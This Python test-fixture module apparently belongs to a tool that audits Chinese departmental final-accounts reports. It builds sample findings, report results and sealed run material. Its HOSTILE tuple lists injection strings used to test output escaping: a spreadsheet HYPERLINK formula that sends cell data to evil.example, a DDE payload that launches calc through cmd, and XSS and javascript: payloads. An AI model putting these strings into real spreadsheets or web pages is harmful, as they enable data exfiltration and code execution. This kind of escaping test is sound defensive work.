"""Material made by hand: a report with the findings a test wants, sealed as a run seals it."""

from __future__ import annotations

from collections.abc import Sequence

from juesuan_rules.catalogue.model import Layout
from juesuan_rules.documents.model import Place, Source
from juesuan_rules.findings import Basis, Cause, Finding, Operand, Waiver
from juesuan_rules.live import Live
from juesuan_rules.material import Material, Subject
from juesuan_rules.packs.model import PackDigest
from juesuan_rules.pipeline.provenance import provenance, seal, tool
from juesuan_rules.renderings.json_result import result_json
from juesuan_rules.reports.model import Identity, Report
from juesuan_rules.results import Failure, ReportResult, RunResult, Status

WAIVER = Waiver("历年口径如此", "张审计", "2030-12-31", "0.10万元", "全部")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1", "\r\n=1", "＝1+1", "'=1", " =1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "]]>", "<!-- -->", "[点](http://evil.example)", "![图](http://evil.example/a.png)",
    "<http://evil.example>", "http://evil.example", "www.evil.example", "a@evil.example", "javascript:alert(1)", "[a]: http://evil.example", "# 标题", "- 项",
    "1. 项", "> 引", "| a | b |", "``` \n代码", "`a` ``b``", "*强* _调_ ~~删~~", "\\", "\\|", "a\\", "$x$", "{0} {1}", "\x00\x07\x1b[31m", "\u202e反\u2066", "\ufffe\uffff",
    "\ud800", "\U000e0041", "e" + "\u0301" * 50, "行\n行\u2028行", "长" * 50_000, "x" * 5_000, "---", "===", "1)", "#1 @user !2 GH-1", ":smile:", "",
)  # fmt: skip


def finding(rule: str = "A01-2", **changes: object) -> Finding:
    """A 不符 of two figures with everything that is usual."""
    usual: dict[str, object] = {
        "title": "总表：本年支出合计等于各类支出之和", "outcome": "fail", "severity": "error", "pack": "cn",
        "sentence": "总表 支出 1,966.23 万元，支出表 1,966.32 万元，相差 0.09 万元", "formula": "总表.支出 == 支出表.支出", "filled": "1,966.23 == 1,966.32",
        "left": "1966.23", "right": "1966.32", "difference": "-0.09", "tolerance": "0.01", "unit": "万元",
        "operands": (
            Operand("总表[本年支出合计].金额", "19662300.00", "1,966.23", "万元", Place(line=275)),
            Operand("支出表[合计].本年支出合计", "19663200.00", "1,966.32", "万元", Place(page=3, box=(1.0, 2.0, 3.0, 4.0))),
        ),
        "basis": (Basis("预算法", "第七十五条", "2026-11-01"), Basis("审核口径")),
    }  # fmt: skip
    return Finding(rule=rule, **{**usual, **changes})  # type: ignore[arg-type]


def hostile_finding(text: str, number: int = 1) -> Finding:
    """A 不符 with one text everywhere a document's text can come."""
    operand = Operand(text, None, text, "万元", Place(line=number, sheet=text, cell=text, file=text), note=text, corrected=text, quote=text)
    return finding(
        title=text, key=text, sentence=text, formula=text, filled=text, left=text, right=text, difference=text, tolerance=text, unit=text, check=text,
        operands=(operand, operand), basis=(Basis(text, text),), hints=(text,), suspect=text, cause="根因", fingerprint=text,
    )  # fmt: skip


def result(findings: Sequence[Finding], causes: Sequence[Cause] = (), name: str | None = "某局", path: str = "报告.txt", status: Status = "judged", **more: object) -> ReportResult:
    """A report with these findings."""
    return ReportResult(
        Source(path, "ab" * 32, "text", 1234, "utf-8"), Identity(name, 2023, "21", "辽宁省", "万元", "部门决算", True), status,
        (PackDigest("cn", "1.0.0", "sha256:" + "c" * 64),), "依据「辽宁省」选定", findings=tuple(findings), causes=tuple(causes), **more,  # type: ignore[arg-type]
    )  # fmt: skip


def hostile_result(text: str) -> ReportResult:
    """A report that is one text wherever a document's text can come."""
    cause = Cause("根因", text, text, 1, Place(line=1, file=text))
    found = (hostile_finding(text), hostile_finding(text, 2), finding("B-1", outcome="undecided", reason=text))
    return result(found, (cause,), name=text or None, path=f"{text[:50]}.txt", notes=(text,), unread=(text,))


def subject(report: ReportResult, live: Sequence[Live | None] = ()) -> Subject:
    """The report as one an output is made of; nothing of it was read."""
    read = Report(report.source, report.identity, Layout("cn", ()), {})
    return Subject(report, report, tuple(live) or (None,) * len(report.findings), read, (), {"A": "表内勾稽"})


def material(*reports: ReportResult, failures: Sequence[Failure] = (), code: int = 1, command: Sequence[str] = ("juesuan-rules", "eval", "报告.txt")) -> Material:
    """A run of these reports."""
    run = RunResult(tuple(reports), tuple(failures))
    sealed = seal(result_json(run, tool(), provenance(run, command, code)))  # type: ignore[arg-type]
    subjects = [subject(report) for report in reports]
    return Material(run, sealed, code, subjects.__getitem__, subjects[0].families if subjects else {})


